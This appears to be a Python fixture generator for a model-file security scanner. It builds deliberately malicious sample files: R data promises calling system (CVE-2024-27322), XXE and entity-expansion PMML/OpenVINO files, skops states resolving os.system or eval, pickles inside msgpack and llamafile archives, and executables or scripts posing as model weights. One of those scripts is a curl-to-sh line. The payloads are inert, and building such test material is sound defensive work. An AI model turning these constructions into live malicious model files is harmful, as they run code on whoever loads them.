"""R data, PMML, OpenVINO, Core ML, skops, msgpack, Paddle, MXNet, executables that pose as models."""
import gzip
import json
import struct

from kit import ECHO, P, evil, field, zipped


def r_text(text):
    return struct.pack(">II", 0x00040009, len(text)) + text.encode()


def r_symbol(name):
    return struct.pack(">I", 1) + r_text(name)


NULL = struct.pack(">I", 254)
GLOBAL = struct.pack(">I", 253)
BASE_ENV = struct.pack(">I", 241)


def r_strings(*values):
    return struct.pack(">II", 16, len(values)) + b"".join(r_text(value) for value in values)


def r_call(function, *arguments):
    """LANGSXP, then pairs of arguments: R internals, 1.8 serialization formats."""
    made = struct.pack(">I", 6) + r_symbol(function)
    for argument in arguments:
        made += struct.pack(">I", 2) + argument
    return made + NULL


def rds(item):
    return b"X\n" + struct.pack(">III", 2, 0x040203, 0x020300) + item


def make(s):
    mal = s.mal
    call = r_call("system", r_strings(ECHO))
    promise = struct.pack(">I", 5) + NULL + call
    promise_env = struct.pack(">I", 0x0405) + GLOBAL + struct.pack(">I", 251) + call
    closure = struct.pack(">I", 3) + NULL + GLOBAL + NULL + call
    mal("x-promise.rds", rds(promise_env), "R promise that calls system (CVE-2024-27322)", "CVE-2024-27322")
    mal("promise-gzip.rds", gzip.compress(rds(promise_env), mtime=0), "the same, gzip (CVE-2024-27322)", "CVE-2024-27322")
    mal("promise-no-environment.rds", rds(promise), "R promise without an environment (CVE-2024-27322)", "CVE-2024-27322")
    mal("promise-in-list.rds", rds(struct.pack(">II", 19, 1) + promise_env), "R promise in a list (CVE-2024-27322)", "CVE-2024-27322")
    mal("language.rds", rds(call), "R call object")
    mal("closure.rds", rds(closure), "R function that calls system")
    mal("promise.rda", b"RDX2\n" + rds(struct.pack(">I", 0x402) + r_symbol("model") + promise_env + NULL), "R workspace with a promise (CVE-2024-27322)", "CVE-2024-27322")
    mal("ascii.rds", ("A\n2\n262657\n131840\n1029\n253\n251\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n10\necho\\040inert\n254\n"), "R promise, ASCII form (CVE-2024-27322)", "CVE-2024-27322")
    mal("x01-xxe.pmml", '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="&x;"/><DataDictionary/></PMML>\n', "external entity in PMML", "peers' comparison")
    mal("laughs.pmml", '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="&c;"/></PMML>\n', "entities that multiply in PMML")
    mal("parameter-entity.pmml", '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://127.0.0.1:9/inert.dtd"> %x;]>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>\n', "parameter entity from an address")
    mal("xinclude.pmml", '<?xml version="1.0"?>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4" xmlns:xi="http://www.w3.org/2001/XInclude"><Header/><xi:include href="file:///etc/passwd" parse="text"/></PMML>\n', "XInclude in PMML")
    mal("openvino-xxe.xml", '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<net name="&x;" version="11"><layers/><edges/></net>\n', "external entity in OpenVINO")
    mal("openvino-extension.xml", '<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="x" type="Evil" version="extension"><data library="/tmp/inert.so"/></layer></layers><edges/></net>\n', "OpenVINO layer from a library")
    for name, state in {
        "x04-function": {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}},
        "type": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}}},
        "method": {"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode", "content": {"func": "system", "obj": {"__class__": "module", "__module__": "os", "__loader__": "TypeNode"}}},
        "operator": {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}},
        "json-partial": {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {"func": {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "builtins", "function": "eval"}}}},
    }.items():
        mal(f"skops-{name}.skops", zipped(("schema.json", json.dumps({**state, "__id__": 1, "protocol": 2, "_skops_version": "0.10.0"}).encode())), f"skops state: {name}", "CVE-2025-54412 and others")
    mal("skops-card.skops", zipped(("schema.json", json.dumps({"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "protocol": 2, "_skops_version": "0.10.0"}).encode()), ("1.pkl", evil())), "pickle in a skops archive")
    mal("x06-msgpack.msgpack", b"\x81\xa7weights\xc7" + bytes([len(evil())]) + b"\x2a" + evil(), "pickle as a msgpack extension", "peers' comparison")
    mal("msgpack-bytes.msgpack", b"\x81\xa6params\xc4" + bytes([len(evil())]) + evil(), "pickle as msgpack bytes")
    mal("msgpack-claims.msgpack", b"\x81\xa6params\xc6\xff\xff\xff\xf0abc", "msgpack bytes longer than the file")
    mal("msgpack-deep.msgpack", b"\x91" * 20000 + b"\xc0", "msgpack 20,000 deep")
    paddle = field(1, field(1, 0) + field(2, -1) + field(4, field(3, "py_func") + field(4, field(1, "forward_callable_id") + field(2, 0) + field(3, 0))))
    mal("paddle.pdmodel", paddle, "Paddle program with py_func")
    mal("paddle.pdparams", evil(2), "Paddle parameters that act")
    custom = field(1, 4) + field(2, b"") + field(555, field(10, "EvilModel") + field(40, "runs code"))
    mal("coreml-custom.mlmodel", custom, "Core ML custom model")
    layer = field(1, "x") + field(2, "in") + field(3, "out") + field(500, field(10, "EvilLayer"))
    mal("coreml-layer.mlmodel", field(1, 4) + field(2, b"") + field(500, field(1, layer)), "Core ML custom layer")
    mal("coreml-linked.mlmodel", field(1, 4) + field(2, b"") + field(556, field(1, field(1, field(10, "../../evil")))), "Core ML model linked from elsewhere")
    mal("mxnet-symbol.json", json.dumps({"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": "Custom", "name": "c", "attrs": {"op_type": "evil", "library": "inert.so"}, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]]}), "MXNet custom operator from a library")
    mal("tensorrt.engine", b"ftrt" + struct.pack("<IQ", 1, 300) + bytes(40) + b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes(240), "TensorRT engine that carries a program")
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(200)
    pe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(44) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0\x64\x86" + bytes(200)
    for name, content, what in (("model.gguf", elf, "Linux program"), ("model.safetensors", pe, "Windows program"), ("weights.bin", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(200), "macOS program"), ("model.pt", b"#!/bin/sh\ncurl -s http://127.0.0.1:9/inert | sh\n", "shell script"),
                                ("pytorch_model.bin", b"import os\nos.system('echo inert')\n", "Python source"), ("model.onnx", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(200), "Java class"), ("model.h5", b"\0asm\x01\0\0\0" + bytes(20), "WebAssembly module"),
                                ("model.joblib", b"\xa7\x0d\x0d\x0a" + bytes(12) + __import__("marshal").dumps(compile("import os\nos.system('echo inert')", "x", "exec")), "compiled Python"), ("model.ckpt", b"<?php system('echo inert'); ?>\n", "PHP source"), ("weights.h5", b"<html><script>location='http://127.0.0.1:9/'</script></html>\n", "web page"),
                                ("model.npy", b"@echo off\r\npowershell -enc ZQBjAGgAbwA=\r\n", "batch file")):
        mal(f"posing/{what.replace(' ', '-')}/{name}", content, f"{what} that poses as {name}")
    llamafile = b"MZqFpD='\n\n" + bytes(60) + b"PE\0\0" + bytes(500)
    mal("llamafile.llamafile", llamafile + zipped((".args", b"-m\nmodel.gguf\n"), ("model.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(8))), "llamafile: a program with a model inside")
    mal("llamafile-payload.gguf", llamafile + zipped(("data.pkl", evil())), "llamafile with a pickle, named as a model")
    mal("keras-yaml.yaml", "backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function: !!python/tuple [4wEAAAAAAAAA, null, null]\n", "Keras YAML with a Lambda (CVE-2021-37678)", "CVE-2021-37678")
    mal("joblib-cache.pkl", P(4).name("joblib.memory", "MemorizedFunc").call(None, "/tmp").done(), "joblib memory object")
